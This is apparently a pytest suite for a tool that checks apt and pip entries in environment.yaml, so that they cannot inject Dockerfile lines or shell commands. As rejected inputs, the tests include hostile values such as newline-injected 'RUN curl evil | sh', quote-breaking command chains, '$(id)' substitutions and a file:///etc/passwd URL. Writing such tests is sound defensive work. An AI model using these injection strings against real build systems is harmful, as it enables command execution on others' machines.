"""environment.yaml's apt and pip entries are package specs, never pieces of a Dockerfile or a command
(#12, part 5): grammar, file:line errors, quoting, typed pip options, and the CLI refusing them."""

from __future__ import annotations

import json
import shlex

import pytest

from fbtui.config.packages import PipOptions, check_apt, check_pip
from fbtui.errors import FBError
from fbtui.images.plan import env_dockerfile
from fbtui.lab import Lab

ENV = "environments/torch-cpu/environment.yaml"


@pytest.mark.parametrize("entry", ["git", "g++", "python3.11", "libgl1=1.7.0-1", "libc6:amd64",
                                   "libc6:amd64=2.36-9+deb12u4", "tzdata=1:2024a-0", "git/bookworm-backports"])
def test_apt_accepts_debian_package_specs(entry: str) -> None:
    assert check_apt(entry) == entry


@pytest.mark.parametrize("entry", ["", "a", "Git", "foo-", "-y", "--allow-unauthenticated", "git curl",
                                   "git\nRUN curl evil | sh", "git;id", "git && id", "$(id)", "git=", "git=abc",
                                   "git:", "'git'"])
def test_apt_refuses_anything_else(entry: str) -> None:
    with pytest.raises(ValueError, match=r"expected a Debian package|apt options"):
        check_apt(entry)


@pytest.mark.parametrize("entry", ["numpy", "numpy>=1.24", "scikit-learn[all]>=1.3,<2", "torch==2.13.0",
                                   "foo; python_version < '3.12'", 'foo ; sys_platform == "linux"',
                                   "x @ https://host/x-1.0-py3-none-any.whl", "A.B_c-d~=1.0"])
def test_pip_accepts_pep508_requirements(entry: str) -> None:
    assert check_pip(entry) == entry


@pytest.mark.parametrize(("entry", "why"), [
    ("--index-url=https://evil/simple", "pip options go in pip_options"),
    ("-e .", "pip options go in pip_options"),
    (" -rrequirements.txt", "pip options go in pip_options"),
    ("numpy\nRUN curl evil | sh", "newline"),
    ("numpy'; curl evil | sh; echo '", "expected a requirement"),
    ("numpy==$(id)", r"\$"),
    ("numpy`id`", "`"),
    ("numpy\\", r"\\"),
    ("https://host/x.whl", "expected a requirement"),
    ("./local/pkg", "expected a requirement"),
    ("x @ http://host/x.whl", "https://"),
    ("x @ file:///etc/passwd", "https://"),
    ("x @ https://user:token@host/x.whl", "credentials"),
    ("numpy " + "x" * 600, "too long"),
])
def test_pip_refuses_options_shell_and_urls(entry: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        check_pip(entry)


def test_pip_options_are_typed_and_checked() -> None:
    opts = PipOptions(index_url="https://pypi.example/simple", extra_index_urls=["https://extra.example/simple"],
                      find_links=["/opt/wheels", "https://wheels.example/"], pre=True)
    assert opts.args() == ["--index-url", "https://pypi.example/simple", "--extra-index-url",
                           "https://extra.example/simple", "--find-links", "/opt/wheels", "--find-links",
                           "https://wheels.example/", "--pre"]
    for bad in ({"index_url": "https://u:p@host/simple"}, {"index_url": "https://h/s x"},
                {"extra_index_urls": ["ftp://h/"]}, {"find_links": ["../up"]}, {"find_links": ["/a b"]},
                {"index_url": "https://h/\n--trusted-host=evil"}, {"trusted_host": "evil"}):
        with pytest.raises(ValueError):
            PipOptions(**bad)  # type: ignore[arg-type]


def test_dockerfile_quotes_every_entry() -> None:
    text = env_dockerfile(["git", "g++"], ["numpy>=1.24", "foo; python_version < '3.12'"], True,
                          ["--index-url", "https://pypi.example/simple", "--pre"])
    run = next(line for line in text.splitlines() if "pip install" in line)
    assert shlex.split(run.removeprefix("RUN ")) == [
        "python3", "-m", "pip", "install", "--index-url", "https://pypi.example/simple", "--pre", "numpy>=1.24",
        "foo; python_version < '3.12'", "-r", "/opt/fb/env/requirements.txt"]
    assert "install -y --no-install-recommends git g++ &&" in text
    assert len(text.splitlines()) == 5  # ARG, FROM, apt RUN, COPY, pip RUN: nothing else


@pytest.mark.parametrize(("yaml_text", "error"), [
    ("pip:\n  - numpy\n  - scipy\n  - \"numpy\\nRUN id\"\n", f"{ENV}:4: pip[2]: expected a requirement"),
    ("apt:\n  - git\n  - \"git\\nRUN id\"\n", f"{ENV}:3: apt[1]: expected a Debian package"),
    ("pip:\n  - \"--index-url=https://evil/simple\"\n", f"{ENV}:2: pip[0]: pip options go in pip_options"),
    ("pip:\n  - \"numpy' ; id ; '\"\n", f"{ENV}:2: pip[0]: expected a requirement"),
    ("pip_options:\n  index_url: https://u:tok@h/simple\n", f"{ENV}:2: pip_options.index_url: an index URL must "
                                                             "not carry credentials"),
    ("pip_options:\n  trusted_host: evil\n", f"{ENV}:2: pip_options.trusted_host: unknown key"),
])
def test_errors_name_file_line_and_entry(lab_dir, yaml_text: str, error: str) -> None:  # type: ignore[no-untyped-def]
    (lab_dir / ENV).write_text(yaml_text)
    with pytest.raises(FBError) as e:
        Lab(lab_dir).load_environment("torch-cpu")
    assert str(e.value).startswith(error), str(e.value)


def test_valid_environment_loads(lab_dir) -> None:  # type: ignore[no-untyped-def]
    (lab_dir / ENV).write_text("apt: [git, 'libc6:amd64']\npip: ['numpy>=1.24']\n"
                               "pip_options: {extra_index_urls: ['https://x.example/simple'], pre: true}\n")
    spec = Lab(lab_dir).load_environment("torch-cpu")
    assert spec.pip_options.args() == ["--extra-index-url", "https://x.example/simple", "--pre"]


@pytest.mark.parametrize("entry", ['"numpy\\nRUN id"', "\"numpy'; id; echo '\"", '"--index-url=https://evil/s"'])
def test_doctor_build_and_run_refuse_a_bad_entry_and_create_no_store(fbtui, lab_dir, entry: str):  # type: ignore[no-untyped-def]
    (lab_dir / ENV).write_text(f"description: x\npip:\n  - numpy\n  - {entry}\n")
    doctor = fbtui("doctor", "--json")
    checks = {c["name"]: c for c in json.loads(doctor.stdout)}
    assert doctor.returncode == 1 and checks["config"]["status"] == "fail"
    assert f"{ENV}:4: pip[1]: " in checks["config"]["detail"]
    build = fbtui("build", "digits-mlp")
    assert build.returncode == 1
    lines = build.stderr.strip().splitlines()
    assert lines[0].startswith(f"fbtui: error: {ENV}:4: pip[1]: "), build.stderr
    assert "Traceback" not in build.stderr
    run = fbtui("run", "digits-mlp", "-d")
    assert run.returncode == 1 and run.stderr.startswith(f"fbtui: error: {ENV}:4: pip[1]: "), run.stderr
    assert not (lab_dir / ".fb").exists()
